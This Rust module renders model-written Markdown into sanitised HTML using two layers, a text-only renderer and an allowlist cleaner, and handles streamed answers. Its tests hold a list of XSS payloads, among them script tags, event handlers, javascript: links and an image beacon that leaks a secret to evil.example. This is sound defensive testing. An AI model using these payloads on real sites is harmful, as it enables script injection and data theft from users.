//! Markdown to HTML that is safe to show, whatever a model wrote.
//!
//! There are two walls. The renderer takes nothing over as HTML: tags in the text are shown as they were written, but for
//! line breaks, and pictures become links, so that showing an answer asks no other server. Behind it, all HTML is cleaned
//! by a list of what may stay. (The third wall is the page's content security policy.)
//!
//! While an answer grows, what is finished is rendered once. A block is finished when the next one has begun; the last
//! one is rendered again when there is more of it. Links that are defined elsewhere in a text are links only when the
//! whole is rendered.

use crate::page::code::{self, SPAN_CLASSES};
use ammonia::{Builder, UrlRelative};
use pulldown_cmark::{CodeBlockKind, Event, HeadingLevel, LinkType, Options, Parser, Tag, TagEnd, html};
use std::collections::{HashMap, HashSet};
use std::ops::Range;
use std::sync::LazyLock;

/// Text that is nested deeper is shown as it was written: nobody means it.
const MAX_DEPTH: usize = 64;

/// The tags that the renderer makes.
const TAGS: [&str; 29] = [
    "a",
    "blockquote",
    "br",
    "button",
    "code",
    "del",
    "em",
    "figcaption",
    "figure",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "span",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];

static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let set = |values: &[&'static str]| -> HashSet<&'static str> { values.iter().copied().collect() };
    let mut builder = Builder::empty();
    builder
        .tags(set(&TAGS))
        .clean_content_tags(set(&["script", "style"]))
        .tag_attributes(HashMap::from([("a", set(&["href", "title"])), ("ol", set(&["start"]))]))
        .tag_attribute_values(HashMap::from([("button", HashMap::from([("type", set(&["button"]))]))]))
        .set_tag_attribute_value("a", "target", "_blank")
        .set_tag_attribute_value("pre", "tabindex", "0")
        .allowed_classes(HashMap::from([
            ("button", set(&["copy"])),
            ("figure", set(&["code"])),
            ("span", SPAN_CLASSES.iter().copied().chain(["language"]).collect()),
        ]))
        .link_rel(Some("noopener noreferrer"))
        .url_schemes(set(&["http", "https", "mailto"]))
        .url_relative(UrlRelative::Deny);
    builder
});

/// A whole text.
pub fn render(text: &str) -> String {
    clean(&unsafe_html(text))
}

/// A text that is code as a whole.
pub fn render_code(text: &str, language: &str) -> String {
    clean(&code::block(text, language).into_string())
}

/// What may be shown of some HTML.
fn clean(html: &str) -> String {
    CLEANER.clean(html).to_string()
}

fn parser(text: &str) -> Parser<'_> {
    Parser::new_ext(text, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS)
}

/// The text's HTML, behind the first wall only.
fn unsafe_html(text: &str) -> String {
    let Some(events) = events(text) else { return maud::html! { pre { code { (text) } } }.into_string() };
    let mut out = String::with_capacity(text.len() * 3 / 2);
    html::push_html(&mut out, events.into_iter());
    out
}

/// What the text consists of, without anything that is HTML already or that loads something. None if it is nested too
/// deeply.
fn events(text: &str) -> Option<Vec<Event<'_>>> {
    let mut events = Vec::new();
    let mut depth = 0;
    // The language of the code block that is open, and its code.
    let mut code: Option<(String, String)> = None;
    for event in parser(text) {
        match &event {
            Event::Start(_) => depth += 1,
            Event::End(_) => depth -= 1,
            _ => {}
        }
        if depth > MAX_DEPTH {
            return None;
        }
        let event = match event {
            Event::Start(Tag::CodeBlock(kind)) => {
                code = Some((language(&kind), String::new()));
                continue;
            }
            Event::End(TagEnd::CodeBlock) => {
                let (language, code) = code.take().unwrap_or_default();
                Event::Html(code::block(&code, &language).into_string().into())
            }
            Event::Text(text) => match &mut code {
                Some((_, code)) => {
                    code.push_str(&text);
                    continue;
                }
                None => Event::Text(text),
            },
            // The page has headings of its own above those of an answer.
            Event::Start(Tag::Heading { level, .. }) => {
                Event::Start(Tag::Heading { level: below(level), id: None, classes: Vec::new(), attrs: Vec::new() })
            }
            Event::End(TagEnd::Heading(level)) => Event::End(TagEnd::Heading(below(level))),
            Event::Start(Tag::Image { dest_url, title, id, .. }) => {
                events.push(Event::Start(Tag::Link { link_type: LinkType::Inline, dest_url, title, id }));
                Event::Text("picture: ".into())
            }
            Event::End(TagEnd::Image) => Event::End(TagEnd::Link),
            // Tables have no other line break.
            Event::InlineHtml(tag) if ["<br>", "<br/>", "<br />"].contains(&&*tag) => Event::HardBreak,
            Event::Start(Tag::HtmlBlock) => Event::Start(Tag::Paragraph),
            Event::End(TagEnd::HtmlBlock) => Event::End(TagEnd::Paragraph),
            Event::Html(text) | Event::InlineHtml(text) => Event::Text(text),
            Event::TaskListMarker(done) => Event::Text(if done { "☑ " } else { "☐ " }.into()),
            other => other,
        };
        events.push(event);
    }
    Some(events)
}

/// The first word behind a fence.
fn language(kind: &CodeBlockKind<'_>) -> String {
    match kind {
        CodeBlockKind::Indented => String::new(),
        CodeBlockKind::Fenced(info) => {
            info.split([' ', ',', '{', ':']).next().unwrap_or_default().chars().take(24).collect()
        }
    }
}

fn below(level: HeadingLevel) -> HeadingLevel {
    match level {
        HeadingLevel::H1 => HeadingLevel::H3,
        HeadingLevel::H2 => HeadingLevel::H4,
        HeadingLevel::H3 => HeadingLevel::H5,
        _ => HeadingLevel::H6,
    }
}

/// Where the last block of a text begins.
fn last_block(text: &str) -> usize {
    let (mut depth, mut last) = (0_usize, 0);
    for (event, Range { start, .. }) in parser(text).into_offset_iter() {
        if depth == 0 {
            last = start;
        }
        match event {
            Event::Start(_) => depth += 1,
            Event::End(_) => depth -= 1,
            _ => {}
        }
    }
    // What a line begins with belongs to its block: four spaces make it code.
    text[..last].rfind('\n').map_or(0, |at| at + 1)
}

/// A text that grows.
#[derive(Default)]
pub struct Growing {
    text: String,
    /// Bytes of the blocks that are finished.
    finished: usize,
}

/// What is new of a text that grows.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct News {
    /// Blocks that were finished since the last time.
    pub finished: String,
    /// The one that may still change.
    pub open: String,
}

impl Growing {
    /// Adds to the text.
    pub fn push(&mut self, text: &str) {
        self.text += text;
    }

    /// The text so far.
    pub fn text(&self) -> &str {
        &self.text
    }

    /// The whole text.
    pub fn into_text(self) -> String {
        self.text
    }

    /// Renders what is new. Takes as long as the blocks that were open at the last time, and those behind them.
    pub fn render(&mut self) -> News {
        let open = &self.text[self.finished..];
        // A line that has not ended may turn out to be more of the block above: `|` becomes a table's row.
        let complete = open.rfind('\n').map_or(0, |at| at + 1);
        let (done, rest) = open.split_at(last_block(&open[..complete]));
        let news = News { finished: render(done), open: render(rest) };
        self.finished += done.len();
        news
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn markdown_that_models_write() {
        for (text, expected) in [
            ("**a** _b_ `c`", "<p><strong>a</strong> <em>b</em> <code>c</code></p>\n"),
            ("# a", "<h3>a</h3>\n"),
            ("3. a\n4. b", "<ol start=\"3\">\n<li>a</li>\n<li>b</li>\n</ol>\n"),
            ("- [x] a", "<ul>\n<li>☑ a</li>\n</ul>\n"),
            ("~~a~~", "<p><del>a</del></p>\n"),
            (
                "[a](https://b.example/)",
                "<p><a href=\"https://b.example/\" target=\"_blank\" rel=\"noopener noreferrer\">a</a></p>\n",
            ),
            (
                "|a|\n|-|\n|b<br>c|",
                "<table><thead><tr><th>a</th></tr></thead><tbody>\n<tr><td>b<br>\nc</td></tr>\n</tbody></table>\n",
            ),
            ("use <div> here", "<p>use &lt;div&gt; here</p>\n"),
        ] {
            assert_eq!(render(text), expected, "{text}");
        }
        let code = render("```rust\nfn a() {}\n```");
        assert!(code.starts_with("<figure class=\"code\"><figcaption><span class=\"language\">rust</span>"), "{code}");
        assert!(code.contains("<pre tabindex=\"0\"><code><span class=\"k\">fn</span>"), "{code}");
    }

    /// What attackers write, in and around Markdown.
    const ATTACKS: &[&str] = &[
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<a href=javascript:alert(1)>x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:x)",
        "[x](file:///etc/passwd)",
        "[x](/page/conversations/1)",
        "[x](//evil.example)",
        "<javascript:alert(1)>",
        "![x](https://evil.example/?secret)",
        "![x](x\" onerror=\"alert(1))",
        "[x](https://a.example \"\\\" onmouseover=\\\"alert(1)\")",
        "[x]: javascript:alert(1)\n\n[x]",
        "```\"><script>alert(1)</script>\nx\n```",
        "```x onmouseover=alert(1)\nx\n```",
        "```html\n<script>alert(1)</script>\n```",
        "`<script>alert(1)</script>`",
        "# x {onclick=alert(1)}",
        "<style>*{background:url(https://evil.example)}</style>",
        "<link rel=stylesheet href=https://evil.example>",
        "<base href=https://evil.example>",
        "<meta http-equiv=refresh content=0;url=https://evil.example>",
        "<form action=https://evil.example><input name=a><button>x</button></form>",
        "<object data=x></object><embed src=x>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><img src=x onerror=alert(1)></template>",
        "<p style=\"background:url(https://evil.example)\">x",
        "<div id=composer class=dialog>x</div>",
        "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
        "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
        "<button class=copy onclick=alert(1)>x</button>",
    ];

    /// Whether a browser would run something of it, load something, or leave the page unasked. Looks at the tags as they
    /// are, not at a parse tree of the library that made them.
    fn check(html: &str) -> Result<(), String> {
        for (at, _) in html.match_indices('<') {
            let tag = &html[at + 1..];
            let tag = &tag[..tag.find('>').ok_or("a tag without an end")?];
            let name: String = tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
            if !TAGS.contains(&name.as_str()) {
                return Err(format!("<{tag}>"));
            }
            let mut rest = tag.trim_start_matches('/')[name.len()..].trim_start();
            while !rest.is_empty() {
                let (attribute, value) = rest.split_once("=\"").ok_or_else(|| format!("<{tag}>"))?;
                let (value, next) = value.split_once('"').ok_or_else(|| format!("<{tag}>"))?;
                let fine = match attribute {
                    "href" => ["http://", "https://", "mailto:"].iter().any(|scheme| {
                        value.get(..scheme.len()).is_some_and(|start| start.eq_ignore_ascii_case(scheme))
                    }),
                    "class" => ["copy", "code", "language"].contains(&value) || SPAN_CLASSES.contains(&value),
                    "title" | "start" => true,
                    "type" => value == "button",
                    "target" => value == "_blank",
                    "rel" => value == "noopener noreferrer",
                    "tabindex" => value == "0",
                    _ => false,
                };
                if !fine {
                    return Err(format!("{attribute}={value}"));
                }
                rest = next.trim_start();
            }
        }
        Ok(())
    }

    #[test]
    fn attacks_are_text() {
        for attack in ATTACKS {
            for text in [(*attack).to_owned(), format!("> - {attack}"), format!("a {attack} **b**")] {
                let html = render(&text);
                check(&html).unwrap_or_else(|what| panic!("{text}\n{what}\n{html}"));
            }
        }
        // The second wall alone holds, too.
        for attack in ATTACKS {
            let html = clean(attack);
            check(&html).unwrap_or_else(|what| panic!("{attack}\n{what}\n{html}"));
        }
        assert!(check("<img src=\"x\">").is_err() && check("<p onclick=\"x\">").is_err(), "the check sees something");
        assert!(check("<a href=\"javascript:x\">").is_err());
    }

    #[test]
    fn depth_and_length_are_bounded() {
        for text in [
            ">".repeat(50_000),
            "- ".repeat(20_000),
            "*a **b ".repeat(10_000),
            "[".repeat(50_000),
            "![".repeat(20_000),
            "[a](".repeat(10_000),
            "<".repeat(50_000),
            "`a".repeat(20_000),
            "~~a ".repeat(10_000),
            format!("{}\n{}", "|a".repeat(2_000), "|-".repeat(2_000)),
        ] {
            check(&render(&text)).unwrap();
        }
    }

    /// Text of the pieces that mean something in Markdown, attacks among them.
    fn text() -> impl Strategy<Value = String> {
        let piece = prop_oneof![
            4 => proptest::sample::select(vec![
                "a", " ", "\n", "\n\n", "*", "**", "_", "`", "```", "```js\n", "~~", "# ", "- ", "1. ", "> ", "    ", "|",
                "|-|", "[", "](", ")", "![", "<", ">", "&lt;", "&", "\"", "'", "=", "javascript:", "https://a.example",
                "<b", " onload=", "</", "<!--", "-->", "<![CDATA[", "]]>", "\\", "\t", "\u{0}", "---\n", "[x]: ", "<br>",
            ])
            .prop_map(str::to_owned),
            1 => proptest::sample::select(ATTACKS.to_vec()).prop_map(str::to_owned),
            1 => "\\PC{0,8}",
        ];
        proptest::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
    }

    proptest! {
        #[test]
        fn nothing_that_is_written_runs(text in text()) {
            let html = render(&text);
            prop_assert_eq!(check(&html), Ok(()), "{}", html);
        }

        #[test]
        fn html_is_cleaned_too(text in text()) {
            let html = clean(&text);
            prop_assert_eq!(check(&html), Ok(()), "{}", html);
        }

        #[test]
        fn code_is_shown_as_it_is(code in "\\PC{0,40}(\n\\PC{0,40}){0,4}", language in "js|html|c|sh|py|rust|yaml|") {
            let html = code::block(&code, &language).into_string();
            let (_, shown) = html.split_once("<code>").unwrap();
            let mut text = String::new();
            let mut tag = false;
            for c in shown.split_once("</code>").unwrap().0.chars() {
                match c {
                    '<' => tag = true,
                    '>' => tag = false,
                    c if !tag => text.push(c),
                    _ => {}
                }
            }
            for (name, c) in [("&lt;", "<"), ("&gt;", ">"), ("&quot;", "\""), ("&amp;", "&")] {
                text = text.replace(name, c);
            }
            prop_assert_eq!(text, code);
        }

        /// Block by block it is what it is at once, whatever the pieces, where no block refers to another.
        #[test]
        fn growing_is_as_the_whole(
            blocks in proptest::collection::vec(proptest::sample::select(vec![
                "A line\nand another.", "# Heading", "- a\n- b\n\n  c", "1. a\n2. b", "> quote\n> more", "---",
                "```rust\nlet x = 1;\n\n// y\n```", "    indented\n\n    code", "|a|b|\n|-|-|\n|c|d|", "**bold** `code`",
                "Title\n=====", "<div>\nx\n</div>",
            ]), 1..8),
            cuts in proptest::collection::vec(0.0..1.0f64, 0..20),
        ) {
            let text = blocks.join("\n\n");
            let mut cuts: Vec<usize> = cuts.iter().map(|cut| (cut * text.len() as f64) as usize).collect();
            cuts.extend([0, text.len()]);
            cuts.sort_unstable();
            let mut growing = Growing::default();
            let (mut finished, mut open) = (String::new(), String::new());
            for pair in cuts.windows(2) {
                growing.push(&text[pair[0]..pair[1]]);
                let news = growing.render();
                finished += &news.finished;
                open = news.open;
            }
            let squeeze = |html: &str| html.split_whitespace().collect::<String>();
            prop_assert_eq!(squeeze(&(finished + &open)), squeeze(&render(&text)));
            prop_assert_eq!(growing.into_text(), text);
        }
    }
}
